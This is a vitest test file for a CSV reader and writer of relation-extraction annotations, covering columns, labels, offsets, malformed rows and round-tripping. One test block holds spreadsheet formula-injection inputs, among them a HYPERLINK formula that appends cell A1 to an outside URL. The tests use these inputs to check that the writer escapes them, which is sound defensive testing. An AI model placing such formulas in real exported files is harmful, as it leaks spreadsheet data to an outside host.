import { parse } from "csv-parse/sync";
import { describe, expect, test } from "vitest";
import { makeDocument, withFile } from "../../../test/fixtures/documents.ts";
import { formatContract } from "../../../test/fixtures/format-contract.ts";
import { asOneRecord, threeEntities, written } from "../../../test/fixtures/pair-documents.ts";
import { surface } from "../../corpus/document.ts";
import { EncodingError, RecordError, SpanOutsideTextError } from "../../corpus/errors.ts";
import { UsageError } from "../../errors.ts";
import { readCorpus, type Corpus, type ReadOptions } from "../read.ts";
import { MissingColumnsError, MissingLabelColumnError } from "./columns.ts";
import { probeText } from "../source/probe.ts";
import { csv } from "./index.ts";

formatContract(csv, { runs: 250, expected: (document) => asOneRecord(csv, document) });

const read = (content: string | Uint8Array, options?: ReadOptions): Promise<Corpus> =>
  withFile(content, (path) => readCorpus([path], options));
const surfaces = ({ documents }: Corpus): string[][] =>
  documents.map((document) => document.entities.map((entity) => surface(document, entity)));

describe("delimiters and columns", () => {
  const rows = [
    ["id", "head", "tail", "note", "label", "text"],
    ["a", "part", "lundi", "x", "DO_WHEN", "Le colis part lundi."],
    ["", "colis", "part", "", "NO_REL", "Le colis part mardi."],
  ];
  test.each([",", ";", "\t", "|"])("%j", async (delimiter) => {
    const content = rows.map((row) => row.join(delimiter)).join("\r\n");
    for (const written of [content, `\uFEFF${content}\r\n\r\n`]) {
      const corpus = await read(written);
      expect(corpus.sources).toMatchObject([{ formats: ["csv"], documents: 2 }]);
      expect(corpus.notices).toMatchObject([{ code: "unread-column", count: 1, locations: [{ detail: '"note"' }] }]);
      expect(corpus.documents.map(({ id, relations, source }) => [id, relations, source?.line])).toEqual([
        ["a", [{ head: 0, tail: 1, label: "DO_WHEN" }], 2],
        ["annotations-2", [], 3],
      ]);
      expect(surfaces(corpus)).toEqual([
        ["part", "lundi"],
        ["colis", "part"],
      ]);
    }
  });

  const renamed = 'Satz;von;nach;Art\n"der; Brief";der;Brief;ist\n';
  test("columns by other names", async () => {
    const fields = "text=Satz,head=von,tail=nach,label=Art";
    const { documents } = await read(renamed, { format: "csv", fields });
    expect(documents).toMatchObject([{ text: "der; Brief", relations: [{ label: "ist" }] }]);
  });
  test("letter case and signs do not matter, and labels may be called Relation; the exact name goes first", async () => {
    const { documents, notices } = await read("Text;HEAD;Tail;Head Type;Relation\nun deux;un;deux;X;is\n");
    expect(notices).toEqual([]);
    expect(documents).toMatchObject([{ entities: [{ type: "X" }, { type: "" }], relations: [{ label: "is" }] }]);
    const both = await read("text,Label,head,tail,relation,label\nun deux,a,un,deux,b,c\n");
    expect(both.documents).toMatchObject([{ relations: [{ label: "c" }] }]);
    expect(both.notices).toMatchObject([{ code: "unread-column", locations: [{ detail: '"Label", "relation"' }] }]);
    await expect(read("Text,HEAD,Tail\nun deux,un,trois\n")).rejects.toThrow('in column "Tail", found "trois"');
    const named = read("TEXT,von,nach\nun deux,un,deux\n", { format: "csv", fields: "text=Text,head=von,tail=nach" });
    await expect(named).rejects.toThrow('the first row does not name "Text"');
  });
  test("an id that comes again is that of the text: it is numbered", async () => {
    const { documents, notices } = await read("id,text,head,tail,label\n7,un deux,un,deux,x\n7,un deux,deux,un,y\n");
    expect(documents.map(({ id }) => id)).toEqual(["7", "7-2"]);
    expect(notices).toMatchObject([
      { code: "repeated-id", message: "rows with the id of an earlier one, numbered", locations: [{ line: 3 }] },
    ]);
  });
  test("a column that is not there", async () => {
    const failure = read(renamed, { format: "csv", fields: "text=Satz,head=von,label=Arten" });
    await expect(failure).rejects.toBeInstanceOf(MissingColumnsError);
    await expect(failure).rejects.toThrow(
      'annotations.jsonlines:1: the first row does not name "tail", "Arten"; it has "Satz", "von", "nach", "Art". The names in --fields are',
    );
    await expect(read(renamed, { format: "csv", fields: "test=Satz" })).rejects.toBeInstanceOf(UsageError);
  });
  test("no label column: pairs without a relation, which is reported", async () => {
    const { documents, notices } = await read("text,head,tail\nun deux,un,deux\n");
    expect(documents).toMatchObject([{ relations: [] }]);
    expect(notices).toMatchObject([{ code: "no-label-column", count: 1 }]);
    await withFile("text,head,tail,Relation type\nun deux,un,deux,x\n", async (path) => {
      const failure = readCorpus([path], {}, 2, true);
      await expect(failure).rejects.toBeInstanceOf(MissingLabelColumnError);
      await expect(failure).rejects.toThrow('column "Relation type" may be meant for it');
    });
  });
  test("what is a table", () => {
    expect(csv.detects(probeText("a,b\n", "my/pairs.CSV"))).toBe(false);
    expect(csv.detects(probeText("text,head,tail\n", "pairs.txt"))).toBe(true);
    expect(csv.detects(probeText("a,b,c\n"), { fields: "text=a,head=b,tail=c" })).toBe(true);
    expect(csv.detects(probeText("a,b\n", "pairs.txt"))).toBe(false);
    expect(csv.detects(probeText("text\thead\ttail\n", "-"))).toBe(true);
    expect(csv.detects(probeText('{"text": "head,tail"}\n', "pairs.csv"))).toBe(false);
    expect(csv.detects(probeText("#FORMAT=WebAnno TSV 3.3\n", "a.tsv"))).toBe(false);
  });
});

describe("labels", () => {
  const labelsOf = async (...labels: string[]): Promise<(string | undefined)[]> => {
    const rows = labels.map((label) => `un deux,un,deux,${label}\n`);
    const { documents } = await read(`text,head,tail,label\n${rows.join("")}`);
    return documents.map(({ relations }) => relations[0]?.label);
  };
  test("that say that none holds", async () => {
    expect(await labelsOf("", " ", "NO_REL", "no_relation", "none", "NA")).toEqual(Array(6).fill(undefined));
    expect(await labelsOf("Other", "No_Rel", " x ")).toEqual(["Other", "No_Rel", "x"]);
  });
  test("with a probability", async () => {
    const header = "text,head,tail,label,probability\n";
    const { documents } = await read(`${header}un deux,un,deux,x,0.25\nun deux,un,deux,x,\nun deux,un,deux,,0.9\n`);
    expect(documents.map(({ relations }) => relations.map(({ probability }) => probability))).toEqual([
      [0.25],
      [undefined],
      [],
    ]);
    await expect(read(`${header}un deux,un,deux,x,1.5\n`)).rejects.toThrow(
      'expected a number from 0 to 1 in column "probability", found "1.5"',
    );
  });
});

describe("heads and tails by offsets", () => {
  const header = "text,head,head_start,head_end,head_type,tail_start,tail_end\n";
  test("code points, unless the surfaces or the setting say otherwise", async () => {
    const codePoints = await read(`${header}Le colis 📦 part lundi.,,11,15,ACTION,16.0,21.0\n`);
    expect(surfaces(codePoints)).toEqual([["part", "lundi"]]);
    expect(codePoints.documents[0]!.entities.map(({ type }) => type)).toEqual(["ACTION", ""]);
    const told = await read(`${header}Le colis 📦 part lundi.,part,12,16,,17,22\n`);
    expect(surfaces(told)).toEqual([["part", "lundi"]]);
    expect(told.notices.map(({ code }) => code)).toContain("other-offset-unit");
    const said = await read(`${header}Le colis 📦 part lundi.,,12,16,,17,22\n`, { offsetUnit: "utf-16" });
    expect(surfaces(said)).toEqual([["part", "lundi"]]);
  });
  test("outside of the text, or not all of them", async () => {
    await expect(read(`${header}un deux,,0,2,,3,9\n`)).rejects.toBeInstanceOf(SpanOutsideTextError);
    await expect(read(`${header}un deux,,0,2,,3,\n`)).rejects.toThrow('an integer in column "tail_end", found ""');
  });
});

describe("heads and tails by surface", () => {
  const spansOf = async (text: string, head: string, tail: string): Promise<[number[], string[]]> => {
    const { documents, notices } = await read(`text,head,tail,label\n"${text}",${head},${tail},x\n`);
    return [documents[0]!.entities.map(({ start }) => start), notices.map(({ code }) => code)];
  };
  test("whole words before parts of words", async () => {
    expect(await spansOf("un avis des voisins, vois", "vois", "un")).toEqual([[21, 0], []]);
    expect(await spansOf("東京大学 est là", "大学", "là")).toEqual([[2, 9], []]);
  });
  test("the first head and the tail nearest to it, which is reported", async () => {
    const several = ["several-occurrences"];
    expect(await spansOf("a b, a c b", "c", "b")).toEqual([[7, 9], several]);
    expect(await spansOf("b, a c b a", "a", "b")).toEqual([[3, 0], several]);
    expect(await spansOf("b - - a b a", "a", "b")).toEqual([[6, 8], several]);
    expect(await spansOf("a, a", "a", "a")).toEqual([[0, 3], several]);
    expect(await spansOf("New York, York", "New York", "York")).toEqual([[0, 10], several]);
  });
  test("once and several times are said in words", async () => {
    const { notices } = await read("text,head,tail,label\na b b,a,b,x\n");
    expect(notices).toMatchObject([{ locations: [{ detail: '"a" once, "b" 2 times' }] }]);
  });
  test("nowhere", async () => {
    const content = "text,head,tail,label\nun deux,un,trois,x\nun deux,,deux,x\nun deux,un,deux,x\n";
    await expect(read(content)).rejects.toThrow(
      ':2: expected a part of the text, "un deux", in column "tail", found "trois"',
    );
    const { documents, notices } = await read(content, { skipInvalid: true });
    expect(documents.map(({ id }) => id)).toEqual(["annotations-3"]);
    expect(notices).toMatchObject([{ code: "invalid-document", count: 2, locations: [{ line: 2 }, { line: 3 }] }]);
  });
});

describe("rows", () => {
  const header = "text,head,tail,label\n";
  const good = "un deux,un,deux,x\n";

  test("line ends and quotes in a field; lines are those of the file", async () => {
    for (const lineEnd of ["\n", "\r\n"]) {
      const content = `${header}"un\n\n""deux""",un,deux,x\n\n${good}he said "un" deux,un,deux,x\n"un" deux,un,deux,x\n`;
      const { documents } = await read(content.replaceAll("\n", lineEnd));
      expect(documents.map(({ text, source }) => [text, source?.line])).toEqual([
        [`un${lineEnd}${lineEnd}"deux"`, 2],
        ["un deux", 6],
        ['he said "un" deux', 7],
        ['"un" deux', 8],
      ]);
    }
  });

  test("of too few or too many fields", async () => {
    const content = `${header}un, deux,un,deux,x\nun deux\n${good}`;
    await expect(read(content)).rejects.toThrow(":2: expected 4 fields, as many as the first row has, found 5;");
    const { notices } = await read(content, { skipInvalid: true });
    expect(notices).toMatchObject([{ count: 2, total: 3, locations: [{ line: 2 }, { line: 3 }] }]);
  });

  test("a quotation mark that is never closed stops the reading", async () => {
    const failure = read(`${header}${good}"un deux,un,deux,x\n${good}`, { skipInvalid: true });
    await expect(failure).rejects.toBeInstanceOf(RecordError);
    await expect(failure).rejects.toThrow(":3: expected a row whose quotation marks are closed, found one still open");
  });

  test("that are not UTF-8", async () => {
    const content = Buffer.concat([Buffer.from(`${header}É un,É,un,x\n`), Buffer.from("été un,été,un,x\n", "latin1")]);
    await expect(read(content)).rejects.toBeInstanceOf(EncodingError);
    const { documents, notices } = await read(content, { skipInvalid: true });
    expect(documents).toHaveLength(1);
    expect(notices).toMatchObject([{ code: "invalid-document", count: 1, locations: [{ line: 3 }] }]);
  });

  test("a file of many reads", async () => {
    const rows = Array.from({ length: 8000 }, (_, i) => `"À ${i}, ${"-".repeat(40)} un\ndeux",un,deux,x\n`);
    const { documents } = await read(header + rows.join(""));
    expect(documents).toHaveLength(8000);
    expect(documents.at(-1)!.source!.line).toBe(16_000);
  });
});

test("written: a row for each two entities, with surfaces, types and offsets in code points", async () => {
  const { text, notices } = await written([threeEntities], csv);
  const rows = text.trimEnd().split("\n");
  expect(rows).toHaveLength(4);
  expect(rows.slice(0, 3)).toEqual([
    "id,text,head,head_type,head_start,head_end,tail,tail_type,tail_start,tail_end,label,probability",
    "mail-7-0,Le colis 📦 part lundi.,colis,OBJECT,3,8,part,ACTION,11,15,WHO_DO,",
    "mail-7-1,Le colis 📦 part lundi.,colis,OBJECT,3,8,lundi,TIME,16,21,NO_REL,",
  ]);
  expect(notices.map(({ code }) => code)).toEqual(["lost-many-entities"]);
});

test("probabilities come back", async () => {
  const document = makeDocument("d", 'un "deux", trois', ["un", "deux"]);
  const predicted = { ...document, relations: [{ head: 1, tail: 0, label: "x", probability: 0.125 }] };
  const { text } = await written([predicted], csv);
  const { documents } = await read(text);
  expect(documents).toMatchObject([{ id: "d", text: document.text, relations: [{ label: "x", probability: 0.125 }] }]);
  expect(surfaces({ documents } as Corpus)).toEqual([["deux", "un"]]);
});

describe("fields that a spreadsheet would run", () => {
  const formula = '=HYPERLINK("https://example.org/?"&A1,"x") met Bob';
  const texts = [
    formula,
    "'=1 met Bob",
    "''@a met Bob",
    "+1 met Bob",
    "-1 met Bob",
    "\t=1 met Bob",
    "\r1 met Bob",
    "＝1 met Bob",
  ];
  test.each([...texts, "'tis Bob and b", "=", "'"])("%j is written as text and read back as it was", async (text) => {
    const document = makeDocument("=id", `${text} b.`, [text.trim(), "b."], [[0, 1, "-rel"]]);
    const entities = document.entities.map((entity) => ({ ...entity, type: "@T" }));
    const { text: table, notices } = await written([{ ...document, entities }], csv);
    for (const field of parse(table, { columns: false }).slice(1).flat()) expect(field).not.toMatch(/^[=+\-@\t\r＝]/);
    expect(notices).toContainEqual(expect.objectContaining({ code: "quoted-field" }));
    const corpus = await read(table);
    expect(corpus.documents).toMatchObject([
      { id: "=id", text: document.text, entities, relations: document.relations },
    ]);
  });

  test("ordinary fields are written as they are, and nothing is reported", async () => {
    const { notices } = await written([makeDocument("d", "a =1 'b", ["a", "'b"], [[0, 1, "x"]])], csv);
    expect(notices.filter(({ code }) => code === "quoted-field")).toEqual([]);
  });

  test("the apostrophe of another's table is its own where the offsets count it", async () => {
    const { documents } = await read(
      `text,head,head_start,head_end,tail,tail_start,tail_end,label\n'=a b,a,2,3,b,4,5,x\n`,
    );
    expect(documents).toMatchObject([{ text: "'=a b", entities: [{ start: 2 }, { start: 4 }] }]);
  });
});

test("a label that the table itself takes for none, and white space that is not read, are reported", async () => {
  const document = makeDocument("d ", "a b", ["a", "b"], [[0, 1, "NA"]]);
  const { notices } = await written([document], csv);
  expect(notices).toMatchObject([
    { code: "label-of-none", lost: { relations: 1 } },
    { code: "trimmed-field", lost: { other: 1 } },
  ]);
});
